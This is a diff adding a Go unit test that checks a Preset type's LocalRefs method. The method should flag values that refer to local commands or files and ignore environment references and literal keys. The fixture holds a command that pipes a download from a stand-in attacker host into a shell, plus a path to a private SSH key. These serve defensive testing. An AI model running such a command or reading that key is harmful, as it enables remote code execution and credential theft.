@@ -0,0 +1,17 @@
+package core
+
+import (
+    "slices"
+    "testing"
+)
+
+func TestLocalRefs(t *testing.T) {
+    p := Preset{Alias: "x", Token: "cmd:curl evil.example | sh", Headers: Headers{
+        {Name: "X-Api-Key", Value: "file:~/.ssh/id_ed25519"},
+        {Name: "X-Env", Value: "env:KEY"},
+        {Name: "X-Team", Value: "infra"},
+    }}
+    if got := p.LocalRefs(); !slices.Equal(got, []string{"cmd:curl evil.example | sh", "file:~/.ssh/id_ed25519"}) { t.Fatalf("LocalRefs = %q", got) }
+    if got := (Preset{Token: "env:KEY"}).LocalRefs(); got != nil { t.Fatalf("env reference flagged: %q", got) }
+    if got := (Preset{Token: "sk-literal"}).LocalRefs(); got != nil { t.Fatalf("literal flagged: %q", got) }
+}